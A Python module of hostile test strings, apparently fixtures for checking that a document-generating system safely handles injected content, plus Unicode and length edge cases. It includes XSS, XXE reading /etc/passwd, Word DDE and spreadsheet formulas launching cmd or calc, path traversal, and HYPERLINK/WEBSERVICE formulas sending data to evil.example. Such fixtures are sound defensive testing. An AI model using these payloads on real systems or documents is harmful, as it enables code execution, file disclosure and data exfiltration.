"""Texts made to hurt whoever writes or opens a paper."""

from __future__ import annotations

CONTROL = "".join(map(chr, (*range(9), 11, 12, *range(14, 32), 127, 0x85, 0xFFFE, 0xFFFF)))

TEXTS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "entities": "&amp; &lt;b&gt; &#60; &nonsense; & < >",
    "xml end": "]]> --> ?> <![CDATA[x]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    "word": '<w:p><w:t>x</w:t></w:p> { HYPERLINK "http://evil.example" } { DDEAUTO c:\\\\cmd.exe "/k calc" }',
    "typst": '#sys.version #import "/etc/passwd" #read("/etc/passwd") $x^2$ *b* _i_ = H <l> @ref `raw` // \\u{41} #[',
    "jinja": "{{ 7*7 }} {% for x in y %} {# c #} ${7*7} <%= 7*7 %>",
    "placeholder": "{agency} {year} {0} {} %s %(x)s",
    "css": '"} </style><style>*{display:none} @import url(http://evil.example)',
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "tab formula": "\t=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example?x="&A1,"press")',
    "web service": '=WEBSERVICE("http://evil.example")',
    "error": "#REF!",
    "escaped": "_x0041_ _x000D_",
    "footer code": '&P &D &F &"Wingdings"x',
    "javascript": "javascript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "file:///etc/passwd",
    "unc": "\\\\evil.example\\share\\x",
    "path": "../../../etc/passwd",
    "control": f"ก{CONTROL}ข",
    "line ends": "ก\r\nข\rค\nง\u2028จ\u2029ฉ",
    "surrogate": "ก\ud800ข\udfffค",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇹🇭 ☑ 😀",
    "piled marks": "ก" + "่้๊๋็์" * 20 + " e" + "\u0301\u0308\u0323" * 30,
    "turned": "abc\u202edcba\u202c \u2067שלום\u2069 مرحبا \u200f\u200e x",
    "unseen": "ก\u200bข\u200cค\u200dง\ufeffจ\u2060ฉ\u00adช\u00a0ซ",
    "long word": "Pneumonoultramicroscopicsilicovolcanoconiosis" * 12,
    "long address": "https://prongsai.example/" + "a/b-c_d." * 40,
    "private": "\uf0fc \ue000 \U000f0000",
    "blanks": " \t  \n \u3000 ",
    "zero": "0",
    "quote": "'",
    "seal": f"prongsai-seal:1:{'0' * 64}:{'0' * 128}",
}
"""What each does -> the text, as somebody might type it."""

LONG = {
    "letters": "ก" * 10_000,
    "words": "ระบบการเปิดเผยข้อมูลสาธารณะ " * 357,
    "latin": "a" * 10_000,
    "lines": "บรรทัด\n" * 1_428,
    "marked": "<b>&amp;" * 1_250,
}
"""Cells of ten thousand letters."""
